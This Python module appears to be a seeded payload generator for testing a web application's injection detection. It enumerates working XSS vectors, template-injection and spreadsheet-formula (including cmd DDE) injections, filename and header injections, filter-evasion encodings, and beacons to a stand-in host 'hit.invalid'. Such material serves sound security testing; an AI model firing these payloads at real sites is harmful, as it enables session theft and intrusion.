"""Texts that want to be a program; the same seed makes the same ones.

Each calls for attention in some way that `eyes` notices, and bears its number: as a word
in what is read, and as the name of an attribute in whatever it makes of markup, which no
page has by itself.
"""

import re
from base64 import b64encode
from collections.abc import Callable
from random import Random
from typing import NamedTuple
from urllib.parse import quote

# Payloads of a batch, and batches after which every place for a text has had one.
BATCH, ROUND = 50, 6
# Nobody lives there; whoever asks was made to.
ELSEWHERE = "hit.invalid"


class Payload(NamedTuple):
    """`sent` is the text as bytes, some of which are no text."""

    number: int
    sent: bytes

    @property
    def mark(self) -> str:
        return mark_of(self.number)

    @property
    def text(self) -> str:
        return self.sent.decode(errors="replace")


def mark_of(number: int) -> str:
    return f"zq{number}zq"


def payload(seed: int, number: int) -> Payload:
    dice = Random(f"{seed} {number}")
    made = dice.choice(KINDS)(dice, number)
    text = f"{mark_of(number)}{dice.choice(BEFORE)}{dice.choice(DISGUISES)(dice, made)}"
    sent = f"{text}{dice.choice(AFTER)}".encode(errors="surrogatepass")
    return Payload(number, broken(dice, sent) if dice.random() < 0.05 else sent)


# What stands around it, as a record of the register would have it, or out of order.
BEFORE = ("", "", "当事人", "示例", "“", "（", "\u202e", "\u2067", "\ufeff", "\n\n", " \t")
AFTER = ("", "", "有限公司", "。", "”", "）", "\u202c", "\u2069", "\u2028", "\n", "\\")


def broken(dice: Random, sent: bytes) -> bytes:
    """With bytes in it that are no UTF-8, or that some decoders read as a bracket."""
    at = dice.randrange(len(sent))
    return (
        sent[:at]
        + dice.choice((b"\xc0\xbc", b"\xff", b"\xed\xa0\x80", b"\xe6"))
        + sent[at:]
    )


# --- How it calls -------------------------------------------------------------------------


def call(dice: Random, n: int) -> str:
    """A statement without quotes, so that it fits into either kind."""
    return dice.choice(CALLS).replace("N", str(n))


CALLS = (
    "__hit(N)",
    "window[`__hit`](N)",
    "top.__hit(N)",
    "alert(N)",
    "confirm`N`",
    "prompt(N)",
    "fetch(`/hit/N`)",
    f"fetch(`//{ELSEWHERE}/N`)",
    f"new Image().src=`//{ELSEWHERE}/N`",
    "location=`/hit/N`",
    "window.open(`/hit/N`)",
    "import(`/hit/N`)",
    "navigator.sendBeacon(`/hit/N`)",
    "setTimeout(`__hit(N)`)",
    "[N].find(__hit)",
    "document.body.innerHTML=`<img src=/hit/N>`",
)


# --- What it is ---------------------------------------------------------------------------

OUT_OF = (
    *("", "", '">', "'>", '" ', "' ", "-->", "--!>", "</textarea>", "</title>", "]]>"),
    *("</script>", "</style>", "</select>", "</noscript>", "</option></select>", "</p>"),
    *("`>", "</a>", "</svg>", "</template>", "*/", '"}]}</script>', "\\'>", "&quot;>"),
)
# `M` is the mark as an attribute of its own, `C` the call, `N` the number.
MARKUP = (
    "<script M>C</script>",
    "<script M src=/hit/N></script>",
    f"<script M src=//{ELSEWHERE}/N></script>",
    "<script M type=module>C</script>",
    "<img M src=x onerror=C>",
    "<img M/src=x/onerror=C//",
    f"<img M src=//{ELSEWHERE}/N.png>",
    "<image M src=x onerror=C>",
    "<svg M onload=C>",
    "<svg M><script>C</script></svg>",
    "<svg M><animate onbegin=C attributeName=x dur=1s></svg>",
    "<svg M><a xlink:href=javascript:C><text y=9>x</text></a></svg>",
    "<svg M><use href=data:image/svg+xml,x></svg>",
    "<svg M><foreignObject><iframe srcdoc='&lt;script>C&lt;/script>'></svg>",
    "<math M href=javascript:C>x</math>",
    "<math M><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=C&gt;'>",
    "<details M open ontoggle=C>",
    "<input M autofocus onfocus=C>",
    "<select M autofocus onfocus=C>",
    "<textarea M autofocus onfocus=C>",
    "<video M><source onerror=C></video>",
    "<audio M src=x onerror=C>",
    "<body M onload=C>",
    "<body M onpageshow=C>",
    "<marquee M onstart=C>x</marquee>",
    "<p M style=animation:x onanimationstart=C>",
    "<p M style=background:url(/hit/N)>",
    "<style M>@import '/hit/N';</style>",
    "<link M rel=stylesheet href=/hit/N>",
    "<link M rel=prefetch href=/hit/N>",
    "<iframe M src=javascript:C></iframe>",
    "<iframe M srcdoc='<script>parent.__hit(N)</script>'></iframe>",
    "<iframe M src=/hit/N></iframe>",
    "<object M data=/hit/N></object>",
    "<embed M src=/hit/N>",
    f"<base M href=//{ELSEWHERE}/>",
    "<meta M http-equiv=refresh content='0;url=/hit/N'>",
    "<meta M http-equiv=refresh content='0;url=javascript:C'>",
    "<form M action=/hit/N><button autofocus>x</button></form>",
    "<button M form=x formaction=javascript:C>x</button>",
    "<a M href=javascript:C>x</a>",
    "<a M href='java&Tab;script:C'>x</a>",
    "<x M onmouseover=C tabindex=1 autofocus onfocus=C>x</x>",
    "<template M shadowrootmode=open><img src=x onerror=C></template>",
    "<noscript><p title='</noscript><img M src=x onerror=C>'>",
    "<!--[if gte IE 4]><script M>C</script><![endif]-->",
    "<!--><img M src=x onerror=C>-->",
    "<?xml version='1.0'?><x M xmlns='http://www.w3.org/1999/xhtml' onload=C/>",
    "<![CDATA[<script M>C</script>]]>",
    "<plaintext M><textarea M><xmp M>",
)
ATTRIBUTES = (
    "Qautofocus M onfocus=C xQ",
    "Q M onmouseover=Q C",
    "Q M style=Qanimation:x",
    "Q M srcdoc=Q<script>C</script>",
    "Q M href=Qjavascript:C",
    "Q M formaction=Qjavascript:C",
)
TEMPLATES = (
    "{{ 7*7 }}{{ settings.SECRET_KEY }}",
    "{% include 'base.html' %}{% debug %}",
    "{% load static %}{% csrf_token %}",
    "{{ request|safe }}<b M>",
    "${C}#{C}<%= C %>",
    "{{constructor.constructor('C')()}}",
    "{0.__class__.__init__.__globals__}%(name)s%s%n",
    "{# #}{% endblock %}<script M>C</script>",
)
LINKS = (
    "[x](javascript:C)",
    "[x](JaVaScRiPt&colon;C)",
    "[x](java\tscript:C)",
    "[x](jav&#x61;script:C)",
    "[x](data:text/html;base64,B)",
    "[x](vbscript:C)",
    "[x](/hit/N 'x\" onmouseover=\"C')",
    '[x](<portal:lists" onclick="C>)',
    '![x](x" onerror="C)',
    "![x](/hit/N.png)",
    f"![x](//{ELSEWHERE}/N.png)",
    f"![x](https://{ELSEWHERE}/N.png 'x')",
    "![x](data:image/svg+xml;base64,B)",
    "<javascript:C>",
    f'<https://{ELSEWHERE}/N"onclick=C>',
    "[x]\n\n[x]: javascript:C 'x'",
    "![x][y]\n\n[y]: /hit/N.png",
    "# <img M src=x onerror=C>",
    "`</code><script M>C</script>`",
    '```"><script M>C</script>\n```',
    "| a |\n|---|\n| <svg M onload=C> |",
    "> <script M>\n> C\n> </script>",
    "[<img M src=x onerror=C>](portal:lists)",
    "\\<script M>C\\</script>",
)
ADDRESSES = (
    "javascript:C",
    "JaVaScRiPt:C//",
    "\x01javascript:C",
    "java\r\nscript:C",
    "data:text/html;base64,B",
    "data:text/html,<script>C</script>",
    f"//{ELSEWHERE}/N",
    f"https:{ELSEWHERE}/N",
    f"\\\\{ELSEWHERE}\\N",
    "/hit/N",
    "http://a@127.0.0.1/hit/N",
)
SCRIPTS = (
    '"};C;{"',
    "'-C-'",
    '"-C-"',
    "\\';C//",
    "\\u003cscript M\\u003eC\\u003c/script\\u003e",
    "</script ><script M>C</script>",
    "\u2028C\u2028",
    "`;C;`",
    "<!--<script>",
    '","onload":"C',
)
CELLS = (
    f'=HYPERLINK("http://{ELSEWHERE}/N","x")',
    "=cmd|'/c C'!A0",
    "+C",
    "-C",
    "@SUM(1)<b M>",
    "\t=1+1",
    "＝1+1<b M>",
    '"\r\n"<script M>C</script>","',
    "+ADw-script+AD4-C+ADw-/script+AD4-",
)
NAMES = (
    "../../<img M src=x onerror=C>.pdf",
    'a.pdf"><svg M onload=C>.pdf',
    "<script M>C<\\script>.html",
    "x.svg;<img M src=x onerror=C>.jpg",
    "a\r\nContent-Type: text/html\r\n\r\n<script M>C</script>.pdf",
)


def filled(dice: Random, n: int, pattern: str) -> str:
    made = call(dice, n)
    quoted = b64encode(f"<script>{made}</script>".encode()).decode()
    parts = {"M": mark_of(n), "C": made, "N": str(n), "B": quoted, "Q": dice.choice("\"'")}
    return re.sub(r"\b[MCNB]\b|Q", lambda found: parts[found[0]], pattern)


def markup(dice: Random, n: int) -> str:
    return dice.choice(OUT_OF) + filled(dice, n, dice.choice(MARKUP))


def one_of(patterns: tuple[str, ...]) -> Callable[[Random, int], str]:
    return lambda dice, n: filled(dice, n, dice.choice(patterns))


# Markup as often as everything else together.
KINDS: tuple[Callable[[Random, int], str], ...] = (
    *[markup] * 7,
    *map(one_of, (ATTRIBUTES, TEMPLATES, LINKS, ADDRESSES, SCRIPTS, CELLS, NAMES)),
)


# --- How it hides -------------------------------------------------------------------------


def plain(_dice: Random, text: str) -> str:
    return text


def wide(_dice: Random, text: str) -> str:
    """In wide characters, which become the narrow ones where names are folded."""
    return "".join(chr(ord(one) + 0xFEE0) if one in "<>\"'=/`&" else one for one in text)


def entities(dice: Random, text: str) -> str:
    """As references to characters, of some or all, with and without the semicolon."""
    spell = dice.choice(("&#{};", "&#{}", "&#x{:x};", "&#000{};"))
    return "".join(
        spell.format(ord(one)) if one in "<>\"'=:/" or dice.random() < 0.1 else one
        for one in text
    )


def named(_dice: Random, text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def percent(_dice: Random, text: str) -> str:
    return quote(text, safe="")


def percent_twice(_dice: Random, text: str) -> str:
    return quote(quote(text, safe=""), safe="")


def pierced(dice: Random, text: str) -> str:
    """With a character in it that some readers leave out."""
    at = dice.randrange(len(text))
    one = dice.choice("\0\t\n\r\f\x0b\u00ad\u200b\u200d\u2060\ufeff\x85")
    return text[:at] + one + text[at:]


def shouted(dice: Random, text: str) -> str:
    return re.sub(
        r"</?\w+|on\w+=",
        lambda found: "".join(dice.choice((one.upper(), one)) for one in found[0]),
        text,
    )


def doubled(_dice: Random, text: str) -> str:
    """Whole again when what looks like a tag was cut out once."""
    return text.replace("<script", "<scr<script>ipt").replace("<img", "<i<img>mg")


def turned(_dice: Random, text: str) -> str:
    return f"\u202e{text}\u202c\u200f"


DISGUISES: tuple[Callable[[Random, str], str], ...] = (
    *[plain] * 8, wide, entities, named, percent, percent_twice, pierced, shouted, doubled,
    turned,
)  # fmt: skip
